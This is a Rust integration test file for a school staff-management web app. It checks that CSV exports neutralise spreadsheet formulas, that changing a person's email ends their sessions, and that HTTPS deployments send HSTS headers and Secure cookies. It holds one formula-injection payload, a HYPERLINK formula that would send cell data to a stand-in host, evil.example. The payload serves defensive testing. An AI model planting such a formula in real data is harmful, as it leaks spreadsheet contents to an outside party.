//! Exports that open safely in a spreadsheet, https-only browsing behind https, and an
//! email change that ends the old address's sessions.

use attest::state::Settings;

use crate::helpers::{spawn_app_with, Backend, TestApp};
use crate::manage::support::{
    client_for, manager, person_id, school_id, staff, CAMELEY, CHAD, TRUST,
};
use crate::on_both_databases;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

async fn a_name_that_is_a_formula_is_exported_as_text(app: TestApp) {
    let chad = school_id(&app, CHAD).await;
    let office = client_for(&app, &manager(CHAD)).await;
    let res = office
        .post(app.url(&format!("/api/schools/{chad}/people")))
        .json(&serde_json::json!({
            "name": FORMULA, "email": "formula@chad-vale-primary.example",
            "groups": ["@teaching"], "start_date": "2026-09-01"
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    let csv = office
        .get(app.url(&format!("/api/schools/{chad}/matrix.csv")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        csv.starts_with('\u{feff}'),
        "Excel needs the BOM to read UTF-8"
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut saw = false;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
            saw |= cell == format!("'{FORMULA}");
        }
    }
    assert!(saw, "the name is there, as text: {csv}");
}
on_both_databases!(a_name_that_is_a_formula_is_exported_as_text);

async fn an_email_change_ends_the_persons_sessions(app: TestApp) {
    let email = staff(CAMELEY);
    let them = client_for(&app, &email).await;
    assert_eq!(
        them.get(app.url("/api/me")).send().await.unwrap().status(),
        200
    );
    let id = person_id(&app, &email).await;
    let cameley = school_id(&app, CAMELEY).await;
    let trust = client_for(&app, TRUST).await;
    let res = trust
        .put(app.url(&format!("/api/people/{id}")))
        .json(&serde_json::json!({
            "name": "Sam Staff", "email": "sam.new@cameley-primary.example", "groups": ["teaching"],
            "start_date": "2026-09-01", "school_id": cameley
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    assert_eq!(
        them.get(app.url("/api/me")).send().await.unwrap().status(),
        401
    );
}
on_both_databases!(an_email_change_ends_the_persons_sessions);

#[tokio::test]
async fn behind_https_cookies_are_secure_and_browsers_told_to_stay_on_https() {
    let settings = Settings {
        secure_cookies: true,
        ..Settings::default()
    };
    let app = spawn_app_with(Backend::Sqlite, settings).await.unwrap();
    let res = app
        .new_client()
        .post(app.url("/api/session"))
        .json(&serde_json::json!({ "email": staff(CHAD), "password": crate::helpers::PASSWORD }))
        .send()
        .await
        .unwrap();
    let hsts = res.headers().get("strict-transport-security").unwrap();
    assert!(hsts.to_str().unwrap().starts_with("max-age="));
    let cookie = res.headers().get("set-cookie").unwrap().to_str().unwrap();
    assert!(cookie.contains("; Secure"), "{cookie}");

    let plain = spawn_app_with(Backend::Sqlite, Settings::default())
        .await
        .unwrap();
    let res = plain
        .new_client()
        .get(plain.url("/healthz"))
        .send()
        .await
        .unwrap();
    assert!(res.headers().get("strict-transport-security").is_none());
}
